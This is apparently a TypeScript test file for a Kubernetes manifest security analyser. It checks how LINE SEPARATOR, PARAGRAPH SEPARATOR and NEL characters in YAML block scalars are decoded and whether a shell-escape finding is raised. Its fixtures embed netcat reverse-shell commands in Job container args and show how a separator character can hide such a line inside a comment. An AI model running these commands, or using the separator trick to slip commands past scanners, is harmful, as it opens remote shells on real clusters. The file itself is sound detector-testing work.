/**
 * LINE SEPARATOR (U+2028), PARAGRAPH SEPARATOR (U+2029) and NEL (U+0085) inside block scalars, as
 * kubectl reads them: each ends a line of the block, but only NEL becomes a line feed in the value; LS
 * and PS stay in the value as themselves and never fold into a space. The expected values were recorded
 * with kubectl v1.32.4 (`kubectl label --local -f FILE -o json zz=1`) on these exact inputs.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseManifest, decodeManifest } from '../src/index.js';

const LS = '\u2028';
const PS = '\u2029';
const NEL = '\u0085';

function job(block: string): string {
  return `apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: r.example/app:1\n        args:\n        - ${block}\n`;
}

const lines = (sep: string) => `\n          one${sep}${sep}          two\n            three${sep}          four\n\n`;

function argOf(text: string): unknown {
  const { objects, problems } = decodeManifest(text);
  assert.deepEqual(problems, []);
  return (objects[0].value as { spec: { template: { spec: { containers: Array<{ args: unknown[] }> } } } }).spec.template.spec.containers[0].args[0];
}

describe('line and paragraph separators in block scalars', () => {
  const verdicts: Array<[string, string]> = [
    [`|${lines(LS)}`, `one${LS}${LS}two\n  three${LS}four\n`],
    [`>${lines(LS)}`, `one${LS}${LS}two\n  three${LS}four\n`],
    [`|+${lines(LS)}`, `one${LS}${LS}two\n  three${LS}four\n\n\n`],
    [`>+${lines(PS)}`, `one${PS}${PS}two\n  three${PS}four\n\n\n`],
    [`>${lines(NEL)}`, 'one\ntwo\n  three\nfour\n'],
    [`|-\n          set -e${PS}          cat /etc/hostname\n          nc -e /bin/sh 1.2.3.4 9${PS}\n`, `set -e${PS}cat /etc/hostname\nnc -e /bin/sh 1.2.3.4 9`],
    [`>\n          set -e${LS}          cat /etc/hostname\n          nc -e /bin/sh 1.2.3.4 9${LS}\n`, `set -e${LS}cat /etc/hostname nc -e /bin/sh 1.2.3.4 9${LS}`],
  ];
  for (const [block, expected] of verdicts) {
    it(JSON.stringify(block).slice(0, 60), () => assert.equal(argOf(job(block)), expected));
  }

  it('a comment a LINE SEPARATOR seems to end runs on to the line feed in the shell: quiet; after a NEL the line is live', () => {
    const script = (sep: string) => job(`|\n          # c${sep}          nc -e /bin/sh 203.0.113.4 9\n`);
    assert.equal(argOf(script(LS)), `# c${LS}nc -e /bin/sh 203.0.113.4 9\n`);
    assert.deepEqual(analyseManifest(script(LS), 'x.yaml').findings, []);
    assert.deepEqual(analyseManifest(script(PS), 'x.yaml').findings, []);
    const live = analyseManifest(script(NEL), 'x.yaml').findings.filter((finding) => finding.indicator === 'shell-escape');
    assert.equal(live.length, 1);
    assert.equal(live[0].range?.start.line, 12, 'positions count lines by line feeds, as editors do');
  });
});
